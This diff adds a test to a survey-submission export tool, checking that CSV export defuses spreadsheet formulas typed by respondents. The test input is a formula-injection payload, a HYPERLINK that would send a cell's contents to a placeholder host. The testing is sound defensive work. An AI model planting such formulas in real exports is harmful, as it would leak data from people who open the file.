@@ -383,3 +383,16 @@ def test_a_copied_station_folder_exports_including_unrecovered_journals(tmp_path
     assert rows[pre["uuid"]]["outcome"] == "interrupted"
     assert rows[pre["uuid"]]["age_band"] == "a31_60"
     assert rows[done.uuid]["outcome"] == "completed"
+
+
+def test_formulas_typed_by_a_respondent_do_not_run_in_a_spreadsheet(tmp_path, study,
+                                                                    forms_dir):
+    config, key_path = study
+    evil = {"site": "pune", "notes": '=HYPERLINK("http://x.example/?"&A1,"click")'}
+    db_path, _ = station_with(tmp_path, config, [make_item(config, evil)])
+    export_submissions(db_path, tmp_path / "out", load_private_key(key_path, PASS),
+                       load_forms(forms_dir))
+    [row] = read_csv(tmp_path / "out" / "example" / "submissions.csv")
+    assert row["notes"] == "'" + evil["notes"]
+    line = (tmp_path / "out" / "example" / "submissions.jsonl").read_text("utf-8")
+    assert json.loads(line)["answers"] == evil
